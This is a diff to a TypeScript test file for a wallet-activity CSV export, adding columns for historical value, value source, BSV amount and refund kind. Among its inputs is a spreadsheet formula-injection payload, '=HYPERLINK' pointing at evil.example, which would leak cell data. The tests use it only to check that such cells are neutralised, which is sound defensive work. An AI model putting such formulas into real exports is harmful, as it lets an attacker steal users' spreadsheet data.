@@ -24,9 +24,12 @@ const sent: ExportedActivity = {
   buttonId: 'article-7',
 };
 
+const END = '0.10,USD,,asked,0.002,payment,\r\n';
+const RECEIVED = END.replace('payment', 'received');
+
 test('a payment in one line, in UTC, every amount as plain digits', () => {
   expect(csvLines([sent])).toBe(
-    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,,0.10,USD\r\n`,
+    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7,,,,,${END}`,
   );
 });
 
@@ -45,7 +48,9 @@ test('money received, not confirmed: what it has not is empty', () => {
     recipients: [{ to: 'mAddress', satoshis: '5' }],
     satoshis: '5',
   };
-  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,,,\r\n`);
+  expect(csvLines([received])).toBe(
+    `2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,,,,,,,,,unknown,0.00000005,received,\r\n`,
+  );
 });
 
 test('a payment that only the chain shows has no payment id, and what could not be worked out has no amount', () => {
@@ -61,10 +66,12 @@ test('a payment that only the chain shows has no payment id, and what could not 
     satoshis: '5',
   };
   expect(csvLines([restored])).toBe(
-    `2026-11-21T04:05:06.007Z,sent,COMPLETED,,mAddress,,,5,12,${TXID},812345,,,,,,,,\r\n`,
+    `2026-11-21T04:05:06.007Z,sent,COMPLETED,,mAddress,,,5,12,${TXID},812345,,,,,,,,,,unknown,0.00000005,payment,\r\n`,
   );
   const unread: ExportedActivity = { ...restored, isUnverified: true, feeSatoshis: null, recipients: [] };
-  expect(csvLines([unread])).toBe(`2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,,,\r\n`);
+  expect(csvLines([unread])).toBe(
+    `2026-11-21T04:05:06.007Z,unknown,COMPLETED,,,,,,,${TXID},812345,,,,,,,,,,unknown,,unknown,\r\n`,
+  );
 });
 
 test('what it was worth then: what was asked, or what money cost when it was seen arriving; else nothing', () => {
@@ -73,12 +80,22 @@ test('what it was worth then: what was asked, or what money cost when it was see
     csvLines([{ ...sent, amount: null, currency: null, ...item }])
       .trimEnd()
       .split(',')
-      .slice(-2);
-  expect(worth({ amount: '0.002', currency: 'BSV' })).toEqual(['', '']);
-  expect(worth({ direction: 'received', priceThen })).toEqual(['0.08', 'EUR']);
-  expect(worth({ direction: 'received', priceThen, satoshis: '5' })).toEqual(['0.000002', 'EUR']);
-  expect(worth({ direction: 'received' })).toEqual(['', '']);
-  expect(worth({ direction: 'received', priceThen, isUnverified: true })).toEqual(['', '']);
+      .slice(-7, -3);
+  const unknown = ['', '', '', 'unknown'];
+  expect(worth({ amount: '0.002', currency: 'BSV' })).toEqual(unknown);
+  expect(worth({ amount: '0.002', currency: 'BSV', priceThen })).toEqual(['0.08', 'EUR', '40', 'wallet']);
+  expect(worth({ amount: '0.10', currency: 'USD', quotedPrice: '50.1', priceThen })).toEqual([
+    '0.10',
+    'USD',
+    '50.1',
+    'asked',
+  ]);
+  expect(worth({ direction: 'received', priceThen })).toEqual(['0.08', 'EUR', '40', 'wallet']);
+  expect(worth({ direction: 'received', priceThen, satoshis: '5' })).toEqual(['0.000002', 'EUR', '40', 'wallet']);
+  expect(worth({ direction: 'received' })).toEqual(unknown);
+  expect(worth({ direction: 'received', priceThen, isUnverified: true })).toEqual(unknown);
+  const worthThen = { amount: '0.11', currency: 'USD' };
+  expect(worth({ isFromChain: true, worthThen })).toEqual(['0.11', 'USD', '', 'service']);
 });
 
 test('shows who paid by paymail, whether their host confirms it, and the note', () => {
@@ -88,12 +105,25 @@ test('shows who paid by paymail, whether their host confirms it, and the note', 
     sender: { paymail: 'bob@two.example', verified: true },
     note: 'for lunch, thanks\n=1+1',
   };
-  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1",,0.10,USD\r\n`)).toBe(true);
+  expect(csvLines([received]).endsWith(`,bob@two.example,yes,"for lunch, thanks\n'=1+1",,${RECEIVED}`)).toBe(true);
   expect(
     csvLines([{ ...received, sender: { paymail: '=1@two.example', verified: false }, note: '+1' }]).endsWith(
-      `,'=1@two.example,no,'+1,,0.10,USD\r\n`,
+      `,'=1@two.example,no,'+1,,${RECEIVED}`,
     ),
   ).toBe(true);
+});
+
+test('what it was: a refund, said or possible, a cancellation, a payment that gives another back', () => {
+  const kind = (item: Partial<ExportedActivity>) =>
+    csvLines([{ ...sent, ...item }])
+      .trimEnd()
+      .split(',')
+      .slice(-2);
+  const refundOf = { id: 'p-1', origin: null, to: 'a@x.example' };
+  expect(kind({ direction: 'received', refundOf: { ...refundOf, isConfirmed: true } })).toEqual(['refund', 'p-1']);
+  expect(kind({ direction: 'received', refundOf })).toEqual(['possible refund', 'p-1']);
+  expect(kind({ isCancellation: true })).toEqual(['cancellation', '']);
+  expect(kind({ givesBack: 'p-2' })).toEqual(['refund', 'p-2']);
 });
 
 test('a time that is not known is empty', () => {
@@ -122,7 +152,7 @@ test('of recipients that are not all stored, how many more there are', () => {
 
 test('the file begins with a byte order mark and the names of the columns', () => {
   expect(CSV_START).toBe(
-    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label,value then,value currency\r\n',
+    '\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id,sender,sender verified,note,label,value then,value currency,price then,value source,bsv,kind,refund of\r\n',
   );
 });
 
@@ -135,7 +165,7 @@ test.each([
   ['żółć 💸', 'żółć 💸'],
   ['', ''],
 ])('RFC 4180: %j becomes %j', (buttonId, cell) => {
-  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,,,0.10,USD\r\n`)).toBe(true);
+  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell},,,,,${END}`)).toBe(true);
 });
 
 test.each([
@@ -151,8 +181,9 @@ test.each([
   '=HYPERLINK("https://evil.example?"&A1,"x")',
 ])('a formula is made text: %j', (buttonId) => {
   const [, cell = ''] =
-    /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD\r\n$/, '')) ??
-    [];
+    /article-0,(.*)$/s.exec(
+      csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/,,,,,0\.10,USD,,asked,0\.002,payment,\r\n$/, ''),
+    ) ?? [];
   expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
 });
 
